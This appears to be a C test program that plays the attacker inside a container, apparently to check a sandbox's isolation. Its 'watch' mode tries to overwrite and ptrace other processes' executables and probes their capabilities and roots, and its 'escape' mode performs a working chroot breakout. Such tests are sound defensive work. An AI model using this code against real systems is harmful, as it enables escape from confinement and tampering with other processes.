/* The attacker of some tests, inside of a container.
 *
 * spy watch   looks at every process that appears in its /proc, as early and as closely as it may: confinement,
 *             executable, descriptors, root; tries to trace it and to write to its executable. Each process is looked at
 *             until it has the executable of a program of the container. Writes what it sees to /tmp/seen.
 * spy escape  leaves a chroot(2) as that can be left: one more chroot, and then upwards. Prints the names in the
 *             directory that it reaches.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static char done[1 << 22];

/* The value of one line of /proc/PID/status, by its name with the colon. */
static void field(const char *status, const char *name, char *value, size_t size)
{
	const char *at = strstr(status, name);
	*value = 0;
	if (!at)
		return;
	at += strlen(name) + 1;
	size_t length = strcspn(at, "\n");
	snprintf(value, size, "%.*s", (int)length, at);
}

static void look(FILE *seen, long pid)
{
	char path[128], exe[512] = "", text[8192] = "", link[512];
	char seccomp[64], effective[64], bounding[64], privileges[64];
	int fd, length;

	snprintf(path, sizeof path, "/proc/%ld/exe", pid);
	length = readlink(path, exe, sizeof exe - 1);
	exe[length < 0 ? 0 : length] = 0;
	if (length > 0 && (fd = open(path, O_WRONLY)) >= 0) {
		if (write(fd, "hacked", 6) > 0)
			fprintf(seen, "WROTE %s\n", exe);
		close(fd);
	}
	/* What is open in there, and where its root is: the one of these containers has no list of users. */
	snprintf(path, sizeof path, "/proc/%ld/fd", pid);
	DIR *fds = opendir(path);
	for (struct dirent *entry; fds && (entry = readdir(fds));) {
		snprintf(path, sizeof path, "/proc/%ld/fd/%s", pid, entry->d_name);
		length = readlink(path, link, sizeof link - 1);
		if (length > 0)
			fprintf(seen, "fd %s of %s: %.*s\n", entry->d_name, exe, length, link);
	}
	if (fds)
		closedir(fds);
	snprintf(path, sizeof path, "/proc/%ld/root/etc/passwd", pid);
	if (access(path, F_OK) == 0)
		fprintf(seen, "ROOT of %s is the host's\n", exe);
	snprintf(path, sizeof path, "/proc/%ld/status", pid);
	if ((fd = open(path, O_RDONLY)) < 0)
		return;
	length = read(fd, text, sizeof text - 1);
	close(fd);
	if (length <= 0 || strstr(text, "State:\tZ"))
		return;
	field(text, "Seccomp:", seccomp, sizeof seccomp);
	field(text, "CapEff:", effective, sizeof effective);
	field(text, "CapBnd:", bounding, sizeof bounding);
	field(text, "NoNewPrivs:", privileges, sizeof privileges);
	fprintf(seen, "process seccomp=%s effective=%s bounding=%s privileges=%s exe=%s\n", seccomp, effective, bounding,
		privileges, exe);
	if (ptrace(PTRACE_SEIZE, (pid_t)pid, 0, 0) == 0)
		fprintf(seen, "traced %s\n", exe);
	if (strncmp(exe, "/bin/", 5) == 0)
		done[pid % sizeof done] = 1;
	fflush(seen);
}

static int watch(void)
{
	FILE *seen = fopen("/tmp/seen", "w");

	look(seen, getpid());
	for (;;) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; (entry = readdir(proc));) {
			long pid = atol(entry->d_name);
			if (pid > 0 && !done[pid % sizeof done])
				look(seen, pid);
		}
		closedir(proc);
		/* A tracer stands between a process and its signals, and its end and its parent. */
		int status;
		pid_t stopped;
		while ((stopped = waitpid(-1, &status, WNOHANG | __WALL)) > 0)
			if (WIFSTOPPED(status))
				ptrace(PTRACE_CONT, stopped, 0, status >> 16 ? 0 : WSTOPSIG(status));
	}
}

static int escape(void)
{
	mkdir("/deeper", 0755);
	if (chroot("/deeper"))
		perror("chroot");
	for (int i = 0; i < 100; i++)
		if (chdir(".."))
			perror("chdir");
	if (chroot("."))
		perror("chroot");
	DIR *here = opendir("/");
	for (struct dirent *entry; here && (entry = readdir(here));)
		puts(entry->d_name);
	return 0;
}

int main(int count, char **words)
{
	if (count == 2 && strcmp(words[1], "watch") == 0)
		return watch();
	if (count == 2 && strcmp(words[1], "escape") == 0)
		return escape();
	return 2;
}
